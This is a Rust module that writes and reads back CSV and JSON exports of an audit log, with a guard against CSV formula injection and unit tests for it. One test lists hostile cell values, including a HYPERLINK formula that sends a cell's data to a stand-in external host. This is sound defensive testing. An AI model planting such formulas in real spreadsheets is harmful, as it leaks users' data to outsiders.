//! The rows of an audit export, as written and as read back by `verify --export`.
//!
//! A row is the audit entry's wire form ([`AuditLogEntry::exported`]), so an export holds
//! exactly the fields a list shows, plus `chain_index`, `prev_hash` and `hash` for plans that
//! see the tenant chain. JSON: an array of those objects. CSV (RFC 4180, the `csv` crate): a
//! header row of the fields' names, then one record per entry, its cells written from the same
//! serialisation: strings as they are, null as an empty cell, numbers and booleans as JSON
//! literals, nested objects (`tokens`, `metadata`) as JSON text.
//!
//! **Formula guard** (OWASP's CSV injection advice): a spreadsheet runs a cell that starts with
//! `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, and text cells hold what
//! clients and gateways sent (a User-Agent, an error message). Such a text cell is written
//! with a leading `'`, which spreadsheets show as "text, not a formula"; so is a text cell
//! that already starts with `'`, so that every guarded cell starts with `'` and reading one
//! back ([`uncell`]) drops exactly one: the guard is undone without ambiguity, and
//! `verify --export` hashes the values the list shows. Number, boolean and JSON cells are the
//! service's own literals (a JSON object or string starts with `{` or `"`) and are left as
//! they are. JSON exports are data, not spreadsheets: their strings are never changed.

use std::io::Write;
use std::sync::OnceLock;

use auditmem_projections::audit_index::AuditRef;
use auditmem_projections::{AuditEntry, Tokens};
use serde::ser::{self, Impossible, Serialize, SerializeStruct, Serializer};
use serde_json::{Map, Value};
use uuid::Uuid;

use crate::wire::audit::{AuditLogEntry, Personal};

/// The CSV writer of exports, header and rows alike (RFC 4180: fields holding a comma, a quote
/// or a line break are quoted, quotes doubled); [`parse`] reads its output back.
pub fn csv_writer<W: std::io::Write>(w: W) -> csv::Writer<W> {
    csv::WriterBuilder::new().from_writer(w)
}

/// A column of the CSV: its name, and whether its cells are plain strings (the others hold JSON
/// literals).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Column {
    pub name: String,
    pub text: bool,
}

/// The columns of an export, in order: the names of [`AuditLogEntry`]'s fields and whether
/// each holds text, learnt from an entry that fills every field.
pub fn columns(with_chain: bool) -> &'static [Column] {
    static WITH: OnceLock<Vec<Column>> = OnceLock::new();
    static WITHOUT: OnceLock<Vec<Column>> = OnceLock::new();
    let learn = || {
        let (entry, r) = full_entry();
        let mut learnt = Columns(Vec::new());
        // Serialising an entry's fields cannot fail: they are strings, numbers and JSON.
        let _ = AuditLogEntry::exported_as(&entry, Personal::Erased, &r, with_chain)
            .serialize(Row(&mut learnt));
        learnt.0
    };
    if with_chain {
        WITH.get_or_init(learn)
    } else {
        WITHOUT.get_or_init(learn)
    }
}

/// An entry with every optional field given, so each column shows the kind of its cells.
fn full_entry() -> (AuditEntry, AuditRef) {
    let text = || Some(String::from("x"));
    let entry = AuditEntry {
        id: Uuid::nil(),
        action: "a".into(),
        model_id: text(),
        project_id: text(),
        gateway_id: text(),
        ip_address: text(),
        user_agent: text(),
        http_status: 200,
        is_success: true,
        is_cache_hit: false,
        error_code: Some(0),
        error_msg: text(),
        duration: Some(0.0),
        credits_consumed: 0.0,
        balance_consumed_usd: 0.0,
        tokens: Some(Tokens {
            prompt_tokens: 0,
            completion_tokens: 0,
            total_tokens: 0,
        }),
        metadata: Some(Value::Object(Map::new())),
        created_at: 0,
        detail_hash: Some([0; 32]),
    };
    let r = AuditRef {
        id: entry.id,
        seq: 0,
        tenant_id: Uuid::nil(),
        created_at: 0,
        action_key: 0,
        chain_index: 0,
        hash: [0; 32],
        prev_hash: [0; 32],
    };
    (entry, r)
}

/// Writes the header row of an export.
pub fn write_header<W: Write>(w: &mut csv::Writer<W>, with_chain: bool) -> csv::Result<()> {
    w.write_record(columns(with_chain).iter().map(|c| c.name.as_bytes()))
}

/// Writes one entry that predates encryption as a CSV record; `scratch` is space kept between
/// rows.
pub fn write_csv_row<W: Write>(
    w: &mut csv::Writer<W>,
    entry: &AuditEntry,
    r: &AuditRef,
    with_chain: bool,
    scratch: &mut Vec<u8>,
) -> Result<(), String> {
    write_csv_row_as(w, entry, Personal::Plain, r, with_chain, scratch)
}

/// Writes one entry, its personal fields standing as `personal` says, as a CSV record.
pub fn write_csv_row_as<W: Write>(
    w: &mut csv::Writer<W>,
    entry: &AuditEntry,
    personal: Personal,
    r: &AuditRef,
    with_chain: bool,
    scratch: &mut Vec<u8>,
) -> Result<(), String> {
    let mut sink = Record {
        w,
        scratch,
        columns: columns(with_chain).iter(),
    };
    AuditLogEntry::exported_as(entry, personal, r, with_chain)
        .serialize(Row(&mut sink))
        .map_err(|e| e.0)?;
    sink.w
        .write_record(None::<&[u8]>)
        .map_err(|e| e.to_string())
}

/// The CSV cells of one entry, in [`columns`] order, as [`write_csv_row`] writes them.
pub fn csv_cells(entry: &AuditEntry, r: &AuditRef, with_chain: bool) -> Vec<String> {
    let mut w = csv::WriterBuilder::new()
        .has_headers(false)
        .from_writer(Vec::new());
    let written = write_csv_row(&mut w, entry, r, with_chain, &mut Vec::new());
    let bytes = written
        .ok()
        .and_then(|()| w.into_inner().ok())
        .unwrap_or_default();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes.as_slice());
    reader
        .records()
        .next()
        .and_then(Result::ok)
        .map(|rec| rec.iter().map(str::to_string).collect())
        .unwrap_or_default()
}

/// Whether a text cell starting with this character gets the formula guard: OWASP's formula
/// starters, and the guard's own quote (so that the guard reads back unambiguously).
fn guarded_start(first: u8) -> bool {
    matches!(first, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r' | b'\'')
}

/// Reads a CSV cell of the current format (formula guard on) back into the value it was
/// written from.
pub fn uncell(column: &str, s: &str) -> Result<Value, String> {
    uncell_as(column, s, true)
}

/// [`uncell`] for a file written with or without the formula guard.
pub fn uncell_as(column: &str, s: &str, formula_guard: bool) -> Result<Value, String> {
    if s.is_empty() {
        return Ok(Value::Null);
    }
    let text = columns(true)
        .iter()
        .find(|c| c.name == column)
        .is_some_and(|c| c.text);
    if text {
        let unguarded = match s.strip_prefix('\'') {
            Some(rest) if formula_guard => rest,
            _ => s,
        };
        return Ok(Value::String(unguarded.to_string()));
    }
    serde_json::from_str(s).map_err(|e| format!("column {column}: {e}"))
}

/// Parses an export file of the current format (CSV or JSON, told apart by its first byte)
/// into row maps.
pub fn parse(bytes: &[u8]) -> Result<Vec<Map<String, Value>>, String> {
    parse_as(bytes, true)
}

/// [`parse`] for a file whose CSV text cells were written with or without the formula guard
/// (its manifest says which).
/// Whether a JSON export holds OCSF events: its first row starts with `activity_id`, the first
/// key of every event `wire::ocsf` writes (an entry's is `id`).
pub fn is_ocsf(bytes: &[u8]) -> bool {
    let mut rest = bytes
        .iter()
        .skip_while(|b| b.is_ascii_whitespace())
        .skip(1)
        .skip_while(|b| b.is_ascii_whitespace());
    let head: Vec<u8> = rest.by_ref().take(15).copied().collect();
    head == br#"{"activity_id":"#
}

pub fn parse_as(bytes: &[u8], formula_guard: bool) -> Result<Vec<Map<String, Value>>, String> {
    let first = bytes.iter().find(|b| !b.is_ascii_whitespace());
    if first == Some(&b'[') {
        let rows: Vec<Value> =
            serde_json::from_slice(bytes).map_err(|e| format!("not a JSON export: {e}"))?;
        return rows
            .into_iter()
            .enumerate()
            .map(|(i, r)| match r {
                // An OCSF export's rows: each event gives its entry back.
                Value::Object(m) if m.contains_key("class_uid") => {
                    crate::wire::ocsf::entry_of(&m).map_err(|e| format!("row {}: {e}", i + 1))
                }
                Value::Object(m) => Ok(m),
                _ => Err(format!("row {} is not an object", i + 1)),
            })
            .collect();
    }
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(bytes);
    let headers: Vec<String> = reader
        .headers()
        .map_err(|e| format!("not a CSV export: {e}"))?
        .iter()
        .map(str::to_string)
        .collect();
    let mut out = Vec::new();
    for (i, rec) in reader.records().enumerate() {
        let rec = rec.map_err(|e| format!("row {}: {e}", i + 1))?;
        let mut m = Map::new();
        for (h, v) in headers.iter().zip(rec.iter()) {
            m.insert(
                h.clone(),
                uncell_as(h, v, formula_guard).map_err(|e| format!("row {}: {e}", i + 1))?,
            );
        }
        out.push(m);
    }
    Ok(out)
}

/// Serializer methods of one argument that refuse it: a row is a struct of fields.
macro_rules! refuse {
    ($($method:ident($t:ty)),* $(,)?) => {
        $(
            fn $method(self, _: $t) -> Result<(), RowError> {
                Err(not_a_row())
            }
        )*
    };
}

/// Serializer methods of one integer that write it as the cell.
macro_rules! integers {
    ($($method:ident($t:ty)),* $(,)?) => {
        $(
            fn $method(self, v: $t) -> Result<(), CellError> {
                self.integer(v)
            }
        )*
    };
}

/// What a row's fields go to.
trait RowSink {
    fn field<T: Serialize + ?Sized>(
        &mut self,
        name: &'static str,
        value: &T,
    ) -> Result<(), RowError>;
}

/// The columns a row's fields make: their names, and whether each holds text.
struct Columns(Vec<Column>);

impl RowSink for Columns {
    fn field<T: Serialize + ?Sized>(
        &mut self,
        name: &'static str,
        value: &T,
    ) -> Result<(), RowError> {
        self.0.push(Column {
            name: name.to_string(),
            text: serde_json::to_value(value).is_ok_and(|v| v.is_string()),
        });
        Ok(())
    }
}

/// A row's fields as the cells of a CSV record.
struct Record<'a, W: Write> {
    w: &'a mut csv::Writer<W>,
    scratch: &'a mut Vec<u8>,
    columns: std::slice::Iter<'static, Column>,
}

impl<W: Write> RowSink for Record<'_, W> {
    fn field<T: Serialize + ?Sized>(&mut self, _: &'static str, value: &T) -> Result<(), RowError> {
        // A column of JSON literals holds a string as a JSON string (a `metadata` that is one).
        let text = self.columns.next().is_some_and(|c| c.text);
        match value.serialize(self.cell(text)) {
            // A nested value is its JSON text.
            Err(CellError::Nested) => self.cell(text).json(value),
            written => written,
        }
        .map_err(|e| RowError(e.to_string()))
    }
}

impl<W: Write> Record<'_, W> {
    fn cell(&mut self, text: bool) -> Cell<'_, W> {
        Cell {
            w: &mut *self.w,
            scratch: &mut *self.scratch,
            text,
        }
    }
}

/// Serialises a struct of fields into a [`RowSink`].
struct Row<'a, S>(&'a mut S);

#[derive(Debug)]
struct RowError(String);

impl std::fmt::Display for RowError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for RowError {}

impl ser::Error for RowError {
    fn custom<T: std::fmt::Display>(msg: T) -> Self {
        RowError(msg.to_string())
    }
}

fn not_a_row() -> RowError {
    RowError("an export row is a struct of fields".into())
}

impl<'a, S: RowSink> Serializer for Row<'a, S> {
    type Ok = ();
    type Error = RowError;
    type SerializeSeq = Impossible<(), RowError>;
    type SerializeTuple = Impossible<(), RowError>;
    type SerializeTupleStruct = Impossible<(), RowError>;
    type SerializeTupleVariant = Impossible<(), RowError>;
    type SerializeMap = Impossible<(), RowError>;
    type SerializeStruct = Self;
    type SerializeStructVariant = Impossible<(), RowError>;

    fn serialize_struct(self, _name: &'static str, _len: usize) -> Result<Self, RowError> {
        Ok(self)
    }

    // A row is a struct of fields, nothing else.
    refuse!(
        serialize_bool(bool),
        serialize_i8(i8),
        serialize_i16(i16),
        serialize_i32(i32),
        serialize_i64(i64),
        serialize_u8(u8),
        serialize_u16(u16),
        serialize_u32(u32),
        serialize_u64(u64),
        serialize_f32(f32),
        serialize_f64(f64),
        serialize_char(char),
        serialize_str(&str),
        serialize_bytes(&[u8]),
        serialize_unit_struct(&'static str),
    );

    fn serialize_none(self) -> Result<(), RowError> {
        Err(not_a_row())
    }
    fn serialize_unit(self) -> Result<(), RowError> {
        Err(not_a_row())
    }
    fn serialize_unit_variant(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
    ) -> Result<(), RowError> {
        Err(not_a_row())
    }
    fn serialize_some<T: Serialize + ?Sized>(self, _: &T) -> Result<(), RowError> {
        Err(not_a_row())
    }
    fn serialize_newtype_struct<T: Serialize + ?Sized>(
        self,
        _: &'static str,
        _: &T,
    ) -> Result<(), RowError> {
        Err(not_a_row())
    }
    fn serialize_newtype_variant<T: Serialize + ?Sized>(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: &T,
    ) -> Result<(), RowError> {
        Err(not_a_row())
    }
    fn serialize_seq(self, _: Option<usize>) -> Result<Self::SerializeSeq, RowError> {
        Err(not_a_row())
    }
    fn serialize_tuple(self, _: usize) -> Result<Self::SerializeTuple, RowError> {
        Err(not_a_row())
    }
    fn serialize_tuple_struct(
        self,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeTupleStruct, RowError> {
        Err(not_a_row())
    }
    fn serialize_tuple_variant(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeTupleVariant, RowError> {
        Err(not_a_row())
    }
    fn serialize_map(self, _: Option<usize>) -> Result<Self::SerializeMap, RowError> {
        Err(not_a_row())
    }
    fn serialize_struct_variant(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeStructVariant, RowError> {
        Err(not_a_row())
    }
}

impl<S: RowSink> SerializeStruct for Row<'_, S> {
    type Ok = ();
    type Error = RowError;

    fn serialize_field<T: Serialize + ?Sized>(
        &mut self,
        key: &'static str,
        value: &T,
    ) -> Result<(), RowError> {
        self.0.field(key, value)
    }

    /// `sealed` and `erased` are columns of every row (an empty cell where a JSON row leaves
    /// them out); the chain's columns are columns only of the exports that show the chain.
    fn skip_field(&mut self, key: &'static str) -> Result<(), RowError> {
        match key {
            "sealed" | "erased" => self.0.field(key, &None::<bool>),
            _ => Ok(()),
        }
    }

    fn end(self) -> Result<(), RowError> {
        Ok(())
    }
}

#[derive(Debug)]
enum CellError {
    /// A map, sequence or struct: the caller writes it as JSON text.
    Nested,
    Other(String),
}

impl std::fmt::Display for CellError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            CellError::Nested => f.write_str("a nested value"),
            CellError::Other(e) => f.write_str(e),
        }
    }
}

impl std::error::Error for CellError {}

impl ser::Error for CellError {
    fn custom<T: std::fmt::Display>(msg: T) -> Self {
        CellError::Other(msg.to_string())
    }
}

/// Writes one scalar value as a CSV cell: a string as it is in a text column (as a JSON string
/// in the others), a number or a boolean as its JSON literal, null as nothing.
struct Cell<'a, W: Write> {
    w: &'a mut csv::Writer<W>,
    scratch: &'a mut Vec<u8>,
    text: bool,
}

impl<W: Write> Cell<'_, W> {
    fn write(self, bytes: &[u8]) -> Result<(), CellError> {
        self.w
            .write_field(bytes)
            .map_err(|e| CellError::Other(e.to_string()))
    }

    fn integer(self, v: impl itoa::Integer) -> Result<(), CellError> {
        self.write(itoa::Buffer::new().format(v).as_bytes())
    }

    fn json<T: Serialize + ?Sized>(self, v: &T) -> Result<(), CellError> {
        self.scratch.clear();
        serde_json::to_writer(&mut *self.scratch, v)
            .map_err(|e| CellError::Other(e.to_string()))?;
        self.w
            .write_field(&*self.scratch)
            .map_err(|e| CellError::Other(e.to_string()))
    }
}

impl<W: Write> Serializer for Cell<'_, W> {
    type Ok = ();
    type Error = CellError;
    type SerializeSeq = Impossible<(), CellError>;
    type SerializeTuple = Impossible<(), CellError>;
    type SerializeTupleStruct = Impossible<(), CellError>;
    type SerializeTupleVariant = Impossible<(), CellError>;
    type SerializeMap = Impossible<(), CellError>;
    type SerializeStruct = Impossible<(), CellError>;
    type SerializeStructVariant = Impossible<(), CellError>;

    fn serialize_str(self, v: &str) -> Result<(), CellError> {
        if !self.text {
            return self.json(v);
        }
        match v.as_bytes().first() {
            Some(&first) if guarded_start(first) => {
                self.scratch.clear();
                self.scratch.push(b'\'');
                self.scratch.extend_from_slice(v.as_bytes());
                self.w
                    .write_field(&*self.scratch)
                    .map_err(|e| CellError::Other(e.to_string()))
            }
            _ => self.write(v.as_bytes()),
        }
    }
    fn serialize_char(self, v: char) -> Result<(), CellError> {
        self.serialize_str(v.encode_utf8(&mut [0; 4]))
    }
    fn serialize_unit_variant(
        self,
        _: &'static str,
        _: u32,
        variant: &'static str,
    ) -> Result<(), CellError> {
        self.serialize_str(variant)
    }
    fn serialize_bool(self, v: bool) -> Result<(), CellError> {
        self.write(if v { b"true" } else { b"false" })
    }
    integers!(
        serialize_i8(i8),
        serialize_i16(i16),
        serialize_i32(i32),
        serialize_i64(i64),
        serialize_u8(u8),
        serialize_u16(u16),
        serialize_u32(u32),
        serialize_u64(u64),
    );
    fn serialize_f32(self, v: f32) -> Result<(), CellError> {
        self.serialize_f64(v as f64)
    }
    /// JSON has no non-finite numbers: such a cell is empty, as the list shows it null.
    fn serialize_f64(self, v: f64) -> Result<(), CellError> {
        if v.is_finite() {
            self.json(&v)
        } else {
            self.write(b"")
        }
    }
    fn serialize_none(self) -> Result<(), CellError> {
        self.write(b"")
    }
    fn serialize_unit(self) -> Result<(), CellError> {
        self.write(b"")
    }
    fn serialize_unit_struct(self, _: &'static str) -> Result<(), CellError> {
        self.write(b"")
    }
    fn serialize_some<T: Serialize + ?Sized>(self, v: &T) -> Result<(), CellError> {
        v.serialize(self)
    }
    fn serialize_newtype_struct<T: Serialize + ?Sized>(
        self,
        _: &'static str,
        v: &T,
    ) -> Result<(), CellError> {
        v.serialize(self)
    }
    fn serialize_bytes(self, _: &[u8]) -> Result<(), CellError> {
        Err(CellError::Nested)
    }
    fn serialize_newtype_variant<T: Serialize + ?Sized>(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: &T,
    ) -> Result<(), CellError> {
        Err(CellError::Nested)
    }
    fn serialize_seq(self, _: Option<usize>) -> Result<Self::SerializeSeq, CellError> {
        Err(CellError::Nested)
    }
    fn serialize_tuple(self, _: usize) -> Result<Self::SerializeTuple, CellError> {
        Err(CellError::Nested)
    }
    fn serialize_tuple_struct(
        self,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeTupleStruct, CellError> {
        Err(CellError::Nested)
    }
    fn serialize_tuple_variant(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeTupleVariant, CellError> {
        Err(CellError::Nested)
    }
    fn serialize_map(self, _: Option<usize>) -> Result<Self::SerializeMap, CellError> {
        Err(CellError::Nested)
    }
    fn serialize_struct(
        self,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeStruct, CellError> {
        Err(CellError::Nested)
    }
    fn serialize_struct_variant(
        self,
        _: &'static str,
        _: u32,
        _: &'static str,
        _: usize,
    ) -> Result<Self::SerializeStructVariant, CellError> {
        Err(CellError::Nested)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rows_of_sealed_entries_recompute_their_chain_hash_opened_or_erased() {
        use auditmem_projections::audit_view::{chain_hash, chain_hash_fields};
        let (mut entry, r) = crate::wire::audit::tests::sample();
        entry.user_agent = Some("=cmd, \"ua\"".into());
        entry.error_msg = Some("boom".into());
        let want = chain_hash(&[2; 32], &entry, true);
        for personal in [Personal::Opened, Personal::Erased] {
            let mut shown = entry.clone();
            if personal == Personal::Erased {
                (shown.ip_address, shown.user_agent) = (None, None);
                (shown.error_msg, shown.metadata) = (None, None);
            }
            for with_chain in [true, false] {
                let mut w = csv_writer(Vec::new());
                write_header(&mut w, with_chain).expect("header");
                write_csv_row_as(&mut w, &shown, personal, &r, with_chain, &mut Vec::new())
                    .expect("row");
                let csv = w.into_inner().expect("csv");
                let json = serde_json::to_vec(&[AuditLogEntry::exported_as(
                    &shown, personal, &r, with_chain,
                )])
                .expect("json");
                for bytes in [csv, json] {
                    let rows = parse(&bytes).expect("parse");
                    let mut fields = rows[0].clone();
                    assert_eq!(fields.get("sealed"), Some(&Value::Bool(true)));
                    assert_eq!(
                        fields.get("erased").cloned().unwrap_or(Value::Null),
                        if personal == Personal::Erased {
                            Value::Bool(true)
                        } else {
                            Value::Null
                        }
                    );
                    for f in ["chain_index", "prev_hash", "hash"] {
                        fields.remove(f);
                    }
                    assert_eq!(chain_hash_fields(&[2; 32], &fields), want, "{personal:?}");
                }
            }
        }
    }

    #[test]
    fn csv_cells_read_back_as_the_values_the_list_shows() {
        let (mut entry, r) = crate::wire::audit::tests::sample();
        for with_chain in [true, false] {
            let listed = crate::wire::audit::ListedEntry::new(entry.clone(), &r, true);
            let mut want = serde_json::to_value(&listed).expect("json");
            want["chain_index"] = Value::from(3);
            want["prev_hash"] = Value::String(hex::encode([9u8; 32]));
            let cols = columns(with_chain);
            let cells = csv_cells(&entry, &r, with_chain);
            assert_eq!(cells.len(), cols.len());
            for (c, cell) in cols.iter().zip(&cells) {
                assert_eq!(
                    uncell(&c.name, cell).as_ref(),
                    Ok(&want[&c.name]),
                    "column {}",
                    c.name
                );
            }
        }
        entry.duration = None;
        let cells = csv_cells(&entry, &r, false);
        assert_eq!(cells[12], "");
    }

    #[test]
    fn text_cells_that_would_start_a_formula_are_guarded_and_read_back_exactly() {
        let (mut entry, r) = crate::wire::audit::tests::sample();
        let hostile = [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "\tcmd",
            "\rcmd",
            "'already quoted",
            "''two quotes",
        ];
        for h in hostile {
            entry.user_agent = Some(h.to_string());
            entry.error_msg = Some(format!("safe {h}"));
            let cells = csv_cells(&entry, &r, true);
            let cols = columns(true);
            let at = |name: &str| cols.iter().position(|c| c.name == name).expect("column");
            assert_eq!(cells[at("user_agent")], format!("'{h}"));
            // Only a cell's start matters.
            assert_eq!(cells[at("error_msg")], format!("safe {h}"));
            assert_eq!(
                uncell("user_agent", &cells[at("user_agent")]),
                Ok(Value::from(h))
            );
            // Written before the guard, a cell is read as it is.
            assert_eq!(
                uncell_as("user_agent", &format!("'{h}"), false),
                Ok(Value::from(format!("'{h}")))
            );
        }
        // Numbers and JSON cells are the service's own: a negative number stays a number.
        entry.duration = Some(-1.5);
        let cells = csv_cells(&entry, &r, false);
        assert_eq!(cells[12], "-1.5");
        assert_eq!(uncell("duration", &cells[12]), Ok(Value::from(-1.5)));
    }

    #[test]
    fn the_columns_are_the_entry_fields_in_order() {
        let names: Vec<&str> = columns(true).iter().map(|c| c.name.as_str()).collect();
        assert_eq!(
            names,
            [
                "id",
                "action",
                "model_id",
                "project_id",
                "gateway_id",
                "ip_address",
                "user_agent",
                "http_status",
                "is_success",
                "is_cache_hit",
                "error_code",
                "error_msg",
                "duration",
                "credits_consumed",
                "balance_consumed_usd",
                "tokens",
                "metadata",
                "created_at",
                "detail_hash",
                "sealed",
                "erased",
                "chain_index",
                "prev_hash",
                "hash"
            ]
        );
        assert_eq!(columns(false).len(), 21);
        let text: Vec<&str> = columns(true)
            .iter()
            .filter(|c| c.text)
            .map(|c| c.name.as_str())
            .collect();
        assert_eq!(
            text,
            [
                "id",
                "action",
                "model_id",
                "project_id",
                "gateway_id",
                "ip_address",
                "user_agent",
                "error_msg",
                "created_at",
                "detail_hash",
                "prev_hash",
                "hash"
            ]
        );
    }
}
